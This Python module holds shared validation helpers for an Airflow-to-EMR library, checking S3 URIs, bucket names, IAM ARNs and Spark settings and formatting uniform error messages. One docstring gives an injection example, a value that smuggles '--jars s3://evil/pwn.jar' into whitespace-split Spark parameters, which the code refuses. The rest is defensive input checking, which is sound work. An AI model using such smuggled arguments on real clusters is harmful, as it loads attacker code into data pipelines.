"""Shared checks for every spec: one place that words errors the same way.

Every check raises :class:`~emr_dags.errors.EmrConfigError` with a message shaped
``Spec.field: <bad value> is <problem>; expected <allowed>. <fix>`` so an analyst reads the fix
in the DAG-parse error without opening the AWS docs.

Templated strings (containing ``{{`` or ``{%``) are accepted wherever the value is a string that
Airflow renders later; the rendered request is checked again by
:func:`emr_dags.specs.validation.validate_request`.
"""

from __future__ import annotations

import contextvars
import enum
import math
import re
import shlex
from collections.abc import Callable, Iterable, Mapping
from typing import Any, TypeVar

from emr_dags.errors import EmrConfigError

E = TypeVar("E", bound=enum.Enum)

# Every pattern is matched with ``fullmatch`` and compiled with ``re.ASCII``: ``$`` alone would
# accept a trailing newline, and ``\d`` / ``\w`` would accept Arabic-Indic digits or accented letters
# that AWS rejects. Patterns spell their character classes in ASCII ([0-9], [A-Za-z0-9_]) as well.
S3_BUCKET = re.compile(r"[a-z0-9][a-z0-9.\-]{1,61}[a-z0-9]", re.ASCII)
# The part after the bucket: no whitespace or control characters (the path may be joined into a
# comma list or a ``--flag=value`` token, where a space would start a new argument).
_S3_KEY = r"(/[^\s\x00-\x1f\x7f]*)?"
S3_URI = re.compile(r"s3a?://[a-z0-9][a-z0-9.\-]{1,61}[a-z0-9]" + _S3_KEY, re.ASCII)
# An EMR on EC2 / EMR Serverless release label: emr-7.5.0, emr-6.15.0.
RELEASE_LABEL = re.compile(r"emr-[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}", re.ASCII)
# IAM role names: 1-64 of letters, digits and + = , . @ _ -; paths of such segments.
_IAM_NAME = r"[A-Za-z0-9+=,.@_\-]{1,64}"
IAM_ROLE_ARN = re.compile(
    r"arn:aws(-[a-z]+)*:iam::[0-9]{12}:role/([A-Za-z0-9+=,.@_\-]+/)*" + _IAM_NAME, re.ASCII
)
# A role (or instance profile) given by name or ARN, as RunJobFlow's ServiceRole / JobFlowRole accept.
IAM_ROLE = re.compile(
    r"(arn:aws(-[a-z]+)*:iam::[0-9]{12}:(role|instance-profile)/([A-Za-z0-9+=,.@_\-]+/)*)?"
    r"[A-Za-z0-9+=,.@_\-]{1,128}",
    re.ASCII,
)
ACCOUNT_ID = re.compile(r"[0-9]{12}", re.ASCII)
SUBNET_ID = re.compile(r"subnet-[0-9a-f]{8,17}", re.ASCII)
SECURITY_GROUP_ID = re.compile(r"sg-[0-9a-f]{8,17}", re.ASCII)
INSTANCE_TYPE = re.compile(r"[a-z][a-z0-9\-]*\.[a-z0-9]+", re.ASCII)
MAX_ARG = 10280  # EMR's limit on one argument (HadoopJarStep Args, entryPointArguments)
# Spark/JVM values shared by SparkStep (EC2) and the Serverless / EKS Spark drivers.
SPARK_MEMORY = re.compile(r"[0-9]{1,9}(k|m|g|t|kb|mb|gb|tb)?", re.IGNORECASE | re.ASCII)
SPARK_CONF_KEY = re.compile(r"spark\.[^\s=]+", re.ASCII)
JAVA_CLASS = re.compile(r"[A-Za-z_$][A-Za-z0-9_$]*(\.[A-Za-z_$][A-Za-z0-9_$]*)*", re.ASCII)
MAVEN = re.compile(r"[A-Za-z0-9_.\-]+:[A-Za-z0-9_.\-]+:[A-Za-z0-9_.\-+]+", re.ASCII)
# Characters no AWS API accepts in a string (EMR's own pattern is [\u0020-\uD7FF\uE000-\uFFFD\t\r\n]):
# NUL and other C0 controls, DEL, lone surrogates (not encodable as UTF-8), U+FFFE / U+FFFF.
_BAD_CHAR = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff\ufffe\uffff]")


# Set while a spec is rebuilt from rendered values (see rendering.render_templates): nothing is a
# template any more, so a rendered value that itself contains "{{" is checked like any literal.
RENDERED: contextvars.ContextVar[bool] = contextvars.ContextVar("emr_dags_rendered", default=False)


def has_template_marks(value: object) -> bool:
    """True when ``value`` is a string with Jinja markers (``{{`` or ``{%``)."""
    return isinstance(value, str) and ("{{" in value or "{%" in value)


def is_templated(value: object) -> bool:
    """True when ``value`` is a Jinja template that Airflow renders before the request is sent.

    Always False while a rendered spec is rebuilt: its values are final, whatever they contain.
    """
    return not RENDERED.get() and has_template_marks(value)


def fail(
    spec: str, field: str, value: object, problem: str, expected: str, fix: str = "", *, at: str = ""
) -> EmrConfigError:
    """Build the one error shape: spec, field, bad value, what is allowed and the fix.

    ``at`` locates the value inside the field (``"[2]"``, ``"['spark.x']"``) for the message;
    ``EmrConfigError.field`` stays the field name itself.
    """
    shown = _short(value)
    message = f"{spec}.{field}{at}: {shown} {problem}; expected {expected}"
    if fix:
        message = f"{message}. {fix}"
    return EmrConfigError(message, spec=spec, field=field)


def _short(value: object) -> str:
    text = repr(value)
    return text if len(text) <= 120 else f"{text[:117]}..."


def spec_name(obj: object) -> str:
    return type(obj).__name__


def setattr_frozen(obj: object, field: str, value: object) -> None:
    """Normalise a field of a frozen dataclass inside ``__post_init__``."""
    object.__setattr__(obj, field, value)


def release_version(label: object) -> tuple[int, int, int] | None:
    """``'emr-7.5.0'`` -> ``(7, 5, 0)``; None for templates and anything unparsable."""
    if not isinstance(label, str) or is_templated(label):
        return None
    match = re.match(r"emr-([0-9]+)\.([0-9]+)\.([0-9]+)", label, re.ASCII)
    if match is None:
        return None
    major, minor, patch = (int(g) for g in match.groups())
    return major, minor, patch


# --- scalar checks ---------------------------------------------------------------------------


def bad_char(value: str, *, allow_newlines: bool = False) -> str | None:
    """Describe the first character no AWS API accepts in ``value`` (NUL, controls, lone surrogates)."""
    for ch in value:
        if _BAD_CHAR.match(ch) or (not allow_newlines and ch in "\t\r\n"):
            if ch == "\x00":
                return "contains a NUL character"
            if "\ud800" <= ch <= "\udfff":
                return f"contains a lone surrogate (U+{ord(ch):04X}), which is not valid UTF-8"
            return f"contains the control character U+{ord(ch):04X}"
    return None


def check_text(
    obj: object, field: str, value: str, *, free_text: bool = False, at: str = "", expected: str = ""
) -> None:
    """Characters every string must respect, template or not.

    NUL, control characters and lone surrogates are refused everywhere (AWS refuses them too);
    tabs and newlines and leading/trailing whitespace only in ``free_text`` (queries, program
    arguments), where they are part of the value.
    """
    spec = spec_name(obj)
    problem = bad_char(value, allow_newlines=free_text)
    if problem is not None:
        raise fail(spec, field, value, problem, expected or "printable text", at=at)
    if not free_text and value != value.strip():
        raise fail(
            spec,
            field,
            value,
            "has leading or trailing whitespace",
            expected or "the value without surrounding spaces",
            "Remove the spaces (a rendered template keeps them too)",
            at=at,
        )


def check_str(
    obj: object,
    field: str,
    value: object,
    *,
    max_len: int = 256,
    min_len: int = 1,
    pattern: re.Pattern[str] | None = None,
    expected: str = "a non-empty string",
    fix: str = "",
    optional: bool = False,
    problem: str = "",
    at: str = "",
    free_text: bool = False,
) -> None:
    """A string field; templates pass the pattern check (they are checked again once rendered).

    ``pattern`` must match the WHOLE value (``fullmatch``): a trailing newline is never accepted.
    """
    spec = spec_name(obj)
    if value is None and optional:
        return
    if not isinstance(value, str):
        raise fail(spec, field, value, f"is a {type(value).__name__}, not a string", expected, fix, at=at)
    if not value:
        raise fail(spec, field, value, "is empty", expected, fix, at=at)
    length = f"{min_len}-{max_len} characters" if min_len > 1 else f"at most {max_len} characters"
    if len(value) < min_len:
        raise fail(spec, field, value, f"is too short ({_chars(len(value))})", length, fix, at=at)
    if len(value) > max_len:
        raise fail(spec, field, value, f"is too long ({_chars(len(value))})", length, fix, at=at)
    check_text(obj, field, value, free_text=free_text, at=at, expected=expected)
    if pattern is not None and not is_templated(value) and not pattern.fullmatch(value):
        raise fail(spec, field, value, mismatch(value, problem, expected), expected, fix, at=at)


def mismatch(value: str, problem: str, expected: str) -> str:
    """The rule a value that fails its pattern breaks, as exactly as can be told."""
    foreign = next((ch for ch in value if not ch.isascii()), None)
    if foreign is not None:
        return f"has the non-ASCII character {foreign!r} (U+{ord(foreign):04X}); only ASCII is allowed"
    if any(ch.isspace() for ch in value):
        return "has whitespace inside"
    if problem:
        return problem
    if expected.startswith(("a ", "an ")):
        return f"is not {expected.split(' like ')[0].split(' (')[0]}"
    return "does not have the expected form"


def _chars(n: int) -> str:
    return "1 character" if n == 1 else f"{n} characters"


# S3 bucket naming rules, checked one by one so the message names the rule that is broken.
# https://docs.aws.amazon.com/AmazonS3/latest/userguide/bucketnamingrules.html
_BUCKET_PREFIXES = ("xn--", "sthree-", "amzn-s3-demo-")
_BUCKET_SUFFIXES = ("-s3alias", "--ol-s3", ".mrap", "--x-s3", "--table-s3")
_IP_ADDRESS = re.compile(r"[0-9]{1,3}(\.[0-9]{1,3}){3}", re.ASCII)


def _bucket_charset(name: str) -> str | None:
    odd = sorted({ch for ch in name if not (ch.isascii() and (ch.islower() or ch.isdigit() or ch in ".-"))})
    if not odd:
        return None
    upper = [ch for ch in odd if ch.isascii() and ch.isupper()]
    other = "".join(ch for ch in odd if ch not in upper)
    parts = ("uppercase letters" if upper else "", repr(other) if other else "")
    return f"has {' and '.join(p for p in parts if p)}: bucket names use only lowercase letters, digits, dots and hyphens"


_BUCKET_RULES: tuple[tuple[Callable[[str], bool], str], ...] = (
    (
        lambda n: not n[0].isalnum() or not n[-1].isalnum(),
        "does not start and end with a letter or digit: bucket names must",
    ),
    (lambda n: ".." in n, "has two adjacent dots: bucket names must not"),
    (lambda n: ".-" in n or "-." in n, "has a dot next to a hyphen: bucket names must not"),
    (lambda n: _IP_ADDRESS.fullmatch(n) is not None, "looks like an IP address: bucket names must not"),
    (
        lambda n: n.startswith(_BUCKET_PREFIXES),
        f"starts with a prefix S3 reserves ({', '.join(_BUCKET_PREFIXES)})",
    ),
    (
        lambda n: n.endswith(_BUCKET_SUFFIXES),
        f"ends with a suffix S3 reserves ({', '.join(_BUCKET_SUFFIXES)})",
    ),
)


def bucket_problem(name: str) -> str | None:
    """Which S3 bucket naming rule ``name`` breaks, or None when it is a valid bucket name."""
    if not 3 <= len(name) <= 63:
        size = "short" if len(name) < 3 else "long"
        return f"is too {size} ({_chars(len(name))}): bucket names are 3-63 characters"
    charset = _bucket_charset(name)
    if charset is not None:
        return charset
    for broken, rule in _BUCKET_RULES:
        if broken(name):
            return rule
    return None


def s3_uri_problem(value: str, *, need_key: bool = False) -> str | None:
    """Why ``value`` is not a usable ``s3://bucket/key`` URI, naming the rule; None when it is."""
    scheme, sep, rest = value.partition("://")
    if not sep or scheme not in ("s3", "s3a"):
        return "is not an S3 URI (it must start with 's3://')"
    bucket, slash, key = rest.partition("/")
    problem = bucket_problem(bucket)
    if problem is not None:
        return f"has the bucket {bucket!r}, which {problem}"
    if need_key and not key:
        return "names a bucket but no object key"
    if any(ch.isspace() for ch in key) or bad_char(key) is not None:
        return "has whitespace or a control character in its object key, which would split the argument"
    del slash
    return None


def check_path(
    obj: object,
    field: str,
    value: object,
    *,
    prefixes: tuple[str, ...] = ("/",),
    expected: str,
    optional: bool = False,
    need_key: bool = True,
    max_len: int = 10280,
    at: str = "",
) -> None:
    """An S3 URI (checked against the bucket naming rules) or a path with one of ``prefixes``."""
    check_str(obj, field, value, max_len=max_len, expected=expected, optional=optional, at=at)
    if value is None or is_templated(value):
        return
    assert isinstance(value, str)
    prefix = next((p for p in prefixes if value.startswith(p)), None)
    if value.startswith(("s3://", "s3a://")):
        problem = s3_uri_problem(value, need_key=need_key)
    elif prefix is None or len(value) == len(prefix):
        problem = "is not an S3 URI or an absolute path"
    elif any(ch.isspace() for ch in value):
        problem = "has whitespace, which would split the argument"
    else:
        problem = None
    if problem is not None:
        raise fail(spec_name(obj), field, value, problem, expected, at=at)


def check_int(
    obj: object,
    field: str,
    value: object,
    *,
    minimum: int | None = None,
    maximum: int | None = None,
    optional: bool = False,
    fix: str = "",
) -> None:
    """An integer field. ``bool`` is rejected: ``True`` is not a count."""
    spec = spec_name(obj)
    if value is None and optional:
        return
    bounds = _bounds(minimum, maximum)
    if not isinstance(value, int) or isinstance(value, bool):
        raise fail(
            spec, field, value, f"is a {type(value).__name__}, not an integer", f"an integer {bounds}", fix
        )
    if (minimum is not None and value < minimum) or (maximum is not None and value > maximum):
        raise fail(spec, field, value, "is out of range", f"an integer {bounds}", fix)


def _bounds(minimum: int | None, maximum: int | None) -> str:
    if minimum is not None and maximum is not None:
        return f"from {minimum} to {maximum}"
    if minimum is not None:
        return f">= {minimum}"
    if maximum is not None:
        return f"<= {maximum}"
    return ""


def check_bool(obj: object, field: str, value: object) -> None:
    if not isinstance(value, bool):
        raise fail(spec_name(obj), field, value, f"is a {type(value).__name__}", "True or False")


def check_s3_uri(obj: object, field: str, value: object, *, optional: bool = False, fix: str = "") -> None:
    expected = "an S3 URI like 's3://my-bucket/path/'"
    check_str(obj, field, value, max_len=10280, expected=expected, fix=fix, optional=optional)
    if isinstance(value, str) and not is_templated(value):
        problem = s3_uri_problem(value)
        if problem is not None:
            raise fail(spec_name(obj), field, value, problem, expected, fix)


def check_bucket(obj: object, field: str, value: object, *, optional: bool = False) -> None:
    """An S3 bucket name (no ``s3://``), with the broken naming rule in the message."""
    expected = "a bucket name of 3-63 lowercase letters, digits, dots and hyphens, like 'my-emr-logs'"
    check_str(obj, field, value, max_len=10280, expected=expected, optional=optional)
    if isinstance(value, str) and not is_templated(value):
        problem = bucket_problem(value)
        if value.startswith("s3://"):
            problem = "has an 's3://' prefix; give the bucket name alone"
        if problem is not None:
            raise fail(spec_name(obj), field, value, problem, expected)


def check_role_arn(obj: object, field: str, value: object, *, optional: bool = False) -> None:
    check_str(
        obj,
        field,
        value,
        max_len=2048,
        pattern=IAM_ROLE_ARN,
        expected="an IAM role ARN like 'arn:aws:iam::123456789012:role/my-job-role'",
        problem="is not an IAM role ARN",
        optional=optional,
    )


def coerce_enum(obj: object, field: str, value: object, enum_cls: type[E], *, optional: bool = False) -> None:
    """Accept an Enum member or its value (case-insensitive) and store the member."""
    if value is None and optional:
        return
    member = to_enum(spec_name(obj), field, value, enum_cls)
    setattr_frozen(obj, field, member)


def to_enum(spec: str, field: str, value: object, enum_cls: type[E]) -> E:
    if isinstance(value, enum_cls):
        return value
    if isinstance(value, str):
        folded = value.casefold()
        for member in enum_cls:
            if str(member.value).casefold() == folded or member.name.casefold() == folded:
                return member
    allowed = ", ".join(repr(m.value) for m in enum_cls)
    raise fail(spec, field, value, f"is not a known {enum_cls.__name__} value", f"one of {allowed}")


_TEMPLATE = re.compile(r"\{\{.*?\}\}|\{%.*?%\}")


def suggest_argv(command_line: str) -> str:
    """How a shell would have split ``command_line``, keeping ``{{ ... }}`` templates whole."""
    templates: list[str] = []

    def hide(match: re.Match[str]) -> str:
        templates.append(match.group(0))
        return f"\x00{len(templates) - 1}\x00"

    try:
        parts = shlex.split(_TEMPLATE.sub(hide, command_line))
    except ValueError:
        return "['--flag', 'value', ...]"
    restored = [re.sub(r"\x00([0-9]+)\x00", lambda m: templates[int(m.group(1))], p) for p in parts]
    return repr(restored)


# --- collections -----------------------------------------------------------------------------


def coerce_tuple(obj: object, field: str, value: object, *, expected: str) -> tuple[Any, ...]:
    """A list-like field stored as a tuple. A bare string is rejected, never split.

    Splitting ``"--date {{ ds }}"`` on spaces would be shell parsing by another name; the analyst
    writes the list and every element reaches the program as one argv entry.
    """
    spec = spec_name(obj)
    if isinstance(value, str):
        if any(ch.isspace() for ch in value):
            suggestion = suggest_argv(value)
            raise fail(
                spec,
                field,
                value,
                "is one string with spaces, not a list",
                expected,
                f"Pass a list, one element per argument, e.g. {field}={suggestion}; "
                "arguments are never split by a shell",
            )
        raise fail(
            spec, field, value, "is a string, not a list", expected, f"Wrap it in a list: {field}=[{value!r}]"
        )
    if isinstance(value, Mapping) or not isinstance(value, Iterable):
        raise fail(spec, field, value, f"is a {type(value).__name__}, not a list", expected)
    items = tuple(value)
    setattr_frozen(obj, field, items)
    return items


def coerce_args(obj: object, field: str, value: object) -> tuple[str, ...]:
    """Program arguments: a list of strings; numbers are turned into strings, anything else fails."""
    items = coerce_tuple(obj, field, value, expected="a list of strings, one per argument")
    out: list[str] = []
    for i, item in enumerate(items):
        if isinstance(item, str):
            check_text(obj, field, item, free_text=True, at=f"[{i}]", expected="printable argument text")
            if len(item) > MAX_ARG:
                raise fail(
                    spec_name(obj),
                    field,
                    item,
                    f"is too long ({_chars(len(item))})",
                    f"at most {MAX_ARG} characters per argument (EMR's limit)",
                    "Pass long values through a file in S3",
                    at=f"[{i}]",
                )
            out.append(item)
        elif (
            isinstance(item, int)
            and not isinstance(item, bool)
            or isinstance(item, float)
            and math.isfinite(item)
        ):
            out.append(str(item))
        else:
            raise fail(
                spec_name(obj),
                field,
                item,
                f"is a {type(item).__name__}",
                "a string (or a number, turned into a string)",
                at=f"[{i}]",
            )
    result = tuple(out)
    setattr_frozen(obj, field, result)
    return result


def coerce_str_list(
    obj: object,
    field: str,
    value: object,
    *,
    pattern: re.Pattern[str] | None = None,
    expected: str = "a list of strings",
    max_items: int | None = None,
    problem: str = "",
) -> tuple[str, ...]:
    items = coerce_tuple(obj, field, value, expected=expected)
    if max_items is not None and len(items) > max_items:
        raise fail(spec_name(obj), field, items, f"has {len(items)} items", f"at most {max_items}")
    for i, item in enumerate(items):
        check_str(
            obj, field, item, max_len=10280, pattern=pattern, expected=expected, problem=problem, at=f"[{i}]"
        )
    return items


def check_joined(obj: object, field: str, mapping: Mapping[str, str], *, joined_into: str, fix: str) -> None:
    """Keys and values spliced into ``key=value`` inside a string that is split on whitespace.

    ``sparkSubmitParameters`` and Hive ``parameters`` are ONE string that EMR splits on whitespace;
    ``-d k=v`` / ``--conf k=v`` step arguments are one token each. A value with a space (say a
    rendered ``"4g --jars s3://evil/pwn.jar"``) would add arguments of its own, so it is refused,
    at parse time for literals and again by the operator once templates are rendered.
    """
    for key, value in mapping.items():
        for text in (key, value):
            if is_templated(text):
                continue
            if not text or any(ch.isspace() for ch in text):
                raise fail(
                    spec_name(obj),
                    field,
                    {key: value},
                    f"has whitespace or is empty, which {joined_into} would split into separate arguments",
                    "keys and values without spaces",
                    fix,
                    at=f"[{key!r}]",
                )


def check_comma_items(obj: object, field: str, items: Iterable[str]) -> None:
    """Elements joined with commas (``--jars a,b``, ``spark.jars``): a comma or space would add one."""
    for i, item in enumerate(items):
        if not is_templated(item) and ("," in item or any(ch.isspace() for ch in item)):
            raise fail(
                spec_name(obj),
                field,
                item,
                "contains a comma or whitespace, which would add entries to the joined list",
                "one URI or coordinate per element",
                at=f"[{i}]",
            )


def conf_value(value: object) -> str | None:
    """A configuration property value as EMR wants it (always a string), or None if unsupported."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return str(value)
    if isinstance(value, str):
        return value
    return None


def coerce_str_mapping(
    obj: object,
    field: str,
    value: object,
    *,
    key_pattern: re.Pattern[str] | None = None,
    key_expected: str = "a non-empty string key",
    max_key_len: int = 10280,
    max_value_len: int = 10280,
) -> dict[str, str]:
    """A ``{str: str}`` field; bool/int/float values become strings (``True`` -> ``"true"``)."""
    spec = spec_name(obj)
    if not isinstance(value, Mapping):
        raise fail(spec, field, value, f"is a {type(value).__name__}, not a mapping", "a dict of str -> str")
    out: dict[str, str] = {}
    for key, raw in value.items():
        if not isinstance(key, str) or not key or len(key) > max_key_len:
            raise fail(spec, field, key, "is not a valid key", key_expected)
        check_text(obj, field, key, expected=key_expected)
        if key_pattern is not None and not is_templated(key) and not key_pattern.fullmatch(key):
            raise fail(spec, field, key, "is not a valid key", key_expected)
        text = conf_value(raw)
        if text is None:
            raise fail(
                spec, field, raw, f"is a {type(raw).__name__}", "a string, number or bool", at=f"[{key!r}]"
            )
        if len(text) > max_value_len:
            raise fail(
                spec,
                field,
                text,
                f"is {len(text)} characters long",
                f"at most {max_value_len}",
                at=f"[{key!r}]",
            )
        check_text(obj, field, text, free_text=True, at=f"[{key!r}]")
        out[key] = text
    setattr_frozen(obj, field, out)
    return out


def coerce_tags(obj: object, field: str, value: object) -> dict[str, str]:
    """AWS tags: keys 1-128 characters, values up to 256, not starting with ``aws:`` or ``emr-dags:``."""
    tags = coerce_str_mapping(
        obj,
        field,
        value,
        key_expected="a tag key of 1-128 characters not starting with 'aws:'",
        max_key_len=128,
        max_value_len=256,
    )
    for key in tags:
        if key.lower().startswith("aws:"):
            raise fail(spec_name(obj), field, key, "uses the reserved 'aws:' prefix", "a tag key of your own")
    from emr_dags.tags import reject_reserved

    reject_reserved(tags, spec_name(obj), field)
    return tags


def coerce_extra(obj: object, field: str, value: object) -> dict[str, Any]:
    spec = spec_name(obj)
    if not isinstance(value, Mapping):
        raise fail(
            spec,
            field,
            value,
            f"is a {type(value).__name__}, not a mapping",
            "a dict merged into the request",
        )
    for key in value:
        if not isinstance(key, str) or not key:
            raise fail(
                spec, field, key, "is not a request parameter name", "string keys like 'StepExecutionRoleArn'"
            )
    result = dict(value)
    setattr_frozen(obj, field, result)
    return result


def check_instances(obj: object, field: str, items: tuple[Any, ...], cls: type, *, expected: str) -> None:
    for i, item in enumerate(items):
        if not isinstance(item, cls):
            raise fail(spec_name(obj), field, item, f"is a {type(item).__name__}", expected, at=f"[{i}]")


def deep_merge(base: dict[str, Any], extra: Mapping[str, Any]) -> dict[str, Any]:
    """Merge ``extra`` into a copy of ``base``: dicts merge key by key, anything else replaces."""
    merged = dict(base)
    for key, value in extra.items():
        if isinstance(value, Mapping) and isinstance(merged.get(key), dict):
            merged[key] = deep_merge(merged[key], value)
        else:
            merged[key] = _plain(value)
    return merged


def _plain(value: Any) -> Any:
    """Mappings and tuples to dicts and lists, so the request is JSON-like."""
    if isinstance(value, Mapping):
        return {k: _plain(v) for k, v in value.items()}
    if isinstance(value, tuple | list):
        return [_plain(v) for v in value]
    return value


def drop_none(mapping: Mapping[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in mapping.items() if v is not None}
